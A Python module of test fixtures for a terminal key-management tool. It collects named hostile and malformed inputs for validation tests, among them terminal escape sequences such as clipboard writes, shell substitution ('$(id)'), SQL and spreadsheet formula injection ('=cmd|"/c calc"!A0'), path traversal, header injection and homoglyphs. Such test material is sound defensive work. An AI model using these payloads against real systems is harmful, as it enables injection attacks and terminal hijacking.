"""Bad input at large: one list for each kind, each entry named.

Whoever finds another hostile text puts it here, and every door meets it.
"""

from typing import Final

# -- what no text from people may be

NO_TEXT: Final = {
    "empty": "",
    "blank": " \t\n ",
    "escape sequence": "a\x1b[31mred",
    "clear screen": "\x1b[2J\x1b[H",
    "clipboard write": "a\x1b]52;c;UFdORUQ=\x07",
    "window title": "\x1b]0;PWNED\x07titled",
    "link": "\x1b]8;;https://example.org\x1b\\x\x1b]8;;\x1b\\",
    "device control": "\x1bP$q\x1b\\",
    "C1 control": "a\x9b31m",
    "C1 clipboard write": "\x9d52;c;UFdORUQ=\x9c",
    "bell": "a\x07b",
    "backspace": "a\x08b",
    "shift out": "a\x0eb",
    "NUL": "a\0b",
    "newline": "a\nb",
    "carriage return": "a\rb",
    "CRLF and a header": "a\r\nX-Keytui-User: root",
    "next line": "a\x85b",
    "tab": "a\tb",
    "vertical tab": "a\x0bb",
    "form feed": "a\x0cb",
    "DEL": "a\x7fb",
    "right-to-left override": "abc\u202egnp.exe\u202c",
    "right-to-left isolate": "a\u2067b\u2069",
    "right-to-left mark": "a\u200fb",
    "Arabic letter mark": "a\u061cb",
    "zero-width space": "a\u200bb",
    "zero-width joiner": "a\u200db",
    "word joiner": "a\u2060b",
    "byte-order mark": "a\ufeffb",
    "soft hyphen": "a\u00adb",
    "tag character": "a\U000e0041b",
    "line separator": "a\u2028b",
    "paragraph separator": "a\u2029b",
    "lone surrogate": "a\ud800b",
    "byte that is no UTF-8": "a\udcffb",
    "private use": "a\ue000b",
    "private use, plane 16": "a\U0010fffdb",
    "unassigned": "a\u0378b",
    "noncharacter": "a\uffffb",
    "stacked accents": "a" + "\u0353" * 3,
    "stacked accents at length": "z" + "\u0353\u0300" * 20,
    "201 characters": "x" * 201,
    "100,000 characters": "x" * 100_000,
}
"""Neither a label nor a reason."""

NO_USER_ID: Final = {
    **{name: text for name, text in NO_TEXT.items() if name != "201 characters"},
    "Kelvin sign for k": "\u212aim",
    "dotless i": "mar\u0131a",
    "dotted capital I, whose lower case has two characters": "\u0130gor",
    "Cyrillic a": "m\u0430ria",
    "Greek omicron": "t\u03bfm",
    "full-width letters": "\uff4d\uff41\uff52\uff49\uff41",
    "long s": "\u017fam",
    "accent": "mar\u00eda",
    "combining accent": "mari\u0301a",
    "digit of another script": "maria\u0663",
    "emoji": "maria\U0001f600",
    "65 characters": "a" * 65,
    "NUL at the end": "maria\0",
    "newline at the end": "maria\n",
    "space before": " maria",
    "space after": "maria ",
    "space inside": "maria k",
    "no-break space": "maria\u00a0",
    "host account": "host:root",
    "unknown in the audit trail": "unknown:1a2b",
    "nobody in the audit trail": "-",
    "option": "--administrator",
    "option with a window title": "--\x1b]0;PWNED\x07",
    "dot first": ".maria",
    "underscore first": "_maria",
    "path": "../../etc/passwd",
    "SQL": "maria' OR '1'='1",
    "percent": "mar%",
    "shell": "$(id)",
}
"""What could look like, act like or be folded into another User ID."""

# -- what is text, and must stay nothing but text

MARKUP: Final = {
    "closing markup": "[/foo]",
    "markup": "[bold red]x[/bold red]",
    "click": "[@click=app.quit]x[/]",
    "open bracket": "[",
    "braces": "{0.__class__} {user} %s %n",
}
"""Acts in Rich, Textual and format strings, were it taken for more than text."""

FORMULAS: Final = {
    "equals": "=1+1",
    "plus": "+1",
    "minus": "-1",
    "at": "@SUM(A1)",
    "full-width equals": "\uff1d1+1",
    "full-width plus": "\uff0b1",
    "full-width minus": "\uff0d1",
    "full-width at": "\uff20x",
    "program": '=cmd|"/c calc"!A0',
    "link": '=HYPERLINK("http://example.org?"&A1)',
}
"""Acts in a spreadsheet."""

ODD_TEXT: Final = {
    "SQL": "'; DROP TABLE user; --",
    "wildcards": "100 % _ * ?",
    "shell": "$(id) `id` ;id |id",
    "quotes": "say \"hi\", then 'go'; a|b\\c",
    "emoji": "\U0001f44d\U0001f3fd \U0001f1e9\U0001f1ea",
    "wide": "\u6f22\u5b57\u304b\u306a\u4ea4\u3058\u308a\u6587",
    "decomposed": "cafe\u0301",
    "number": "1e5",
    "null": "null",
}

ACTING: Final = {
    **MARKUP,
    **{
        f"row: {name}": NO_TEXT[name]
        for name in (
            "escape sequence",
            "clear screen",
            "clipboard write",
            "window title",
            "link",
            "device control",
            "C1 clipboard write",
            "right-to-left override",
            "right-to-left isolate",
        )
    },
    "controls": "a\rb\nc\td\0e\x08f\x7fg\x0bh\x0ci\x07j\x0ek\x85l\x9b31m",
    "zero width": "a\u200bb\u200cc\u200dd\ufeffe\u2060f",
    "separators": "a\u2028b\u2029c",
    "emoji": "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466\U0001f3f3\ufe0f\u200d\U0001f308\U0001f1e9\U0001f1ea",
    "wide": ODD_TEXT["wide"],
    "accents": "z" + "\u0301" * 40,
    "very long": "x" * 10_000,
    "very long wide": "\u6f22" * 10_000,
}
"""What a row may hold that came past keytui."""

# -- what names things

NUMBERS: Final = {
    "zero": "0",
    "minus": "-1",
    "fraction": "1.5",
    "exponent": "1e9",
    "word": "soon",
    "superscript": "\u00b2",
    "digits of another script": "\u0663\u0664",
    "underscore": "1_0",
    "over 64 bits": str(2**64),
    "5,000 digits": "9" * 5_000,
    "infinite": "inf",
    "no number": "nan",
    "hexadecimal": "0x10",
}

PATHS: Final = {
    "null device": "/dev/null",
    "root": "/",
    "no such folder": "/no/such/folder/keytui.csv",
    "nobody's home": "~nobody-of-this-name/keytui.csv",
    "above": "../../../../../../no-such-folder/x.csv",
    "a file for a folder": "/dev/null/x.csv",
    "not for anybody": "/proc/1/mem",
    "name too long": "x" * 256 + ".csv",
    "path too long": "/".join(["x" * 200] * 30) + ".csv",
    "option": "--replace",
    "URI": "file:keytui.db?mode=memory",
    "percent": "%2e%2e%2fx.csv?mode=ro#x",
    "memory": ":memory:",
}

LOCATIONS: Final = {
    **PATHS,
    "another kind": "mysql://maria:hunter2@db/keys",
    "PostgreSQL": "postgresql://maria:hunter2@db/keys",
    "no kind": "://x",
    "host in a SQLite URL": "sqlite://host/x.db",
    "URL of nothing": "sqlite:///",
    "URL of memory": "sqlite:///:memory:",
    "URL with NUL": "sqlite:///a\0b",
    "URL of the root": "sqlite:////",
    "upper case": "SQLITE:///x.db",
    "IPv6": "[::1",
}
"""Databases that are none."""

HEADS: Final = {
    "no hash": "1:",
    "no number": ":0123456789abcdef",
    "short": "1:abc",
    "digits of another script": "\u0663:" + "0" * 16,
    "too large": "9" * 30 + ":" + "0" * 64,
}

NO_KEY_TEXT: Final = {
    "brand alone": "kt_",
    "password": "password",
    "too short": "kt_" + "0" * 48,
    "too long": "kt_" + "0" * 50,
    "wrong checksum": "kt_" + "0" * 43 + "000001",
    "digits of another script": "kt_" + "\u0663" * 49,
    "full-width letters": "kt_" + "\uff41" * 49,
    "NULs": "kt_" + "\0" * 49,
    "lone surrogates": "kt_" + "\ud800" * 49,
    "accents": "kt_" + "\u00e9" * 49,
    "brands": "kt_" * 17,
    "10 MB": "kt_" + "a" * 10_000_000,
    "two words": "Bearer kt_" + "0" * 49,
}

EVERYTHING: Final = {
    f"{kind}: {name}": text
    for kind, entries in (
        ("user id", NO_USER_ID),
        ("text", NO_TEXT),
        ("markup", MARKUP),
        ("formula", FORMULAS),
        ("odd", ODD_TEXT),
        ("number", NUMBERS),
        ("location", LOCATIONS),
        ("head", HEADS),
        ("key text", {name: text for name, text in NO_KEY_TEXT.items() if len(text) < 1_000}),
    )
    for name, text in entries.items()
    if kind == "text" or text not in NO_TEXT.values()
}
"""For inputs of whatever kind."""

# -- what is not text at all

BROKEN_BYTES: Final = {
    "no UTF-8": b"\xff\xfe\n",
    "cut UTF-8": b"caf\xc3",
    "overlong": b"\xc0\xaf\n",
    "surrogate": b"\xed\xa0\x80\n",
    "UTF-16": "maria\n".encode("utf-16"),
    "NULs": b"\0" * 64,
    "nothing": b"",
    "line ends alone": b"\r\n\r\n",
    "escape": b"\x1b]52;c;UFdORUQ=\x07\n",
    "a megabyte": b"x" * 1_000_000,
    "a megabyte of lines": b"\n" * 1_000_000,
}
"""For whatever is read as bytes: standard input, a configuration file, a header."""

CONFIG_FILES: Final = {
    **BROKEN_BYTES,
    "half a line": b"mouse = ",
    "twice": b"mouse = true\nmouse = true",
    "a number without end": b"idle_minutes = " + b"9" * 5_000,
    "a table": b"[idle_minutes]\nx = 1",
    "a list": b"look = ['dark']",
    "a date": b"database = 2026-11-24",
    "an infinite number": b"clear_seconds = inf",
    "a setting with an escape": b'"\\u001b]0;x\\u0007" = 1',
    "a value with an escape": b'look = "\\u001b[2J"',
    "a database with an escape": b'database = "\\u001b[2J"',
    "deep": b"x = " + b"[" * 5_000,
    "dotted": b"database.path = 'x'",
}

NOT_STRINGS: Final[tuple[object, ...]] = (None, b"", 17, 1.5, True, [], {}, object, ...)

SIZES: Final = ((1, 1), (2, 2), (59, 15), (60, 16), (10, 200), (500, 3), (300, 100))
"""Terminals, in columns and lines."""
